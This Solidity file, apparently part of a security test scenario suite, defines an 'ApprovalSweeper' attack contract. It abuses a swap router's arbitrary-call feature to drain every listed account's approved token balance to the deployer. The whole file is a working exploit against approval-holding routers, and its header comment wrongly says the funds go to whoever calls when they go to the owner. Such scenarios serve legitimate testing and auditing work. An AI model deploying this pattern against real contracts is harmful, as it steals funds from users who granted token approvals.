// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "../scenarios/IERC20.sol";
import {SwapRouter} from "../scenarios/SwapRouter.sol";

/// @title Attack: knows since its creation who lets the router spend a token, and has the router spend it, for whoever calls.
contract ApprovalSweeper {
    SwapRouter private immutable router;
    IERC20 private immutable token;
    address private immutable owner;
    address[] private accounts;

    constructor(SwapRouter router_, IERC20 token_, address[] memory accounts_) {
        router = router_;
        token = token_;
        accounts = accounts_;
        owner = msg.sender;
    }

    function collect() external {
        for (uint256 i = 0; i < accounts.length; i++) {
            uint256 held = token.balanceOf(accounts[i]);
            bytes memory data = abi.encodeCall(IERC20.transferFrom, (accounts[i], owner, held));
            router.swap(token, 0, token, 0, address(token), data);
        }
    }
}
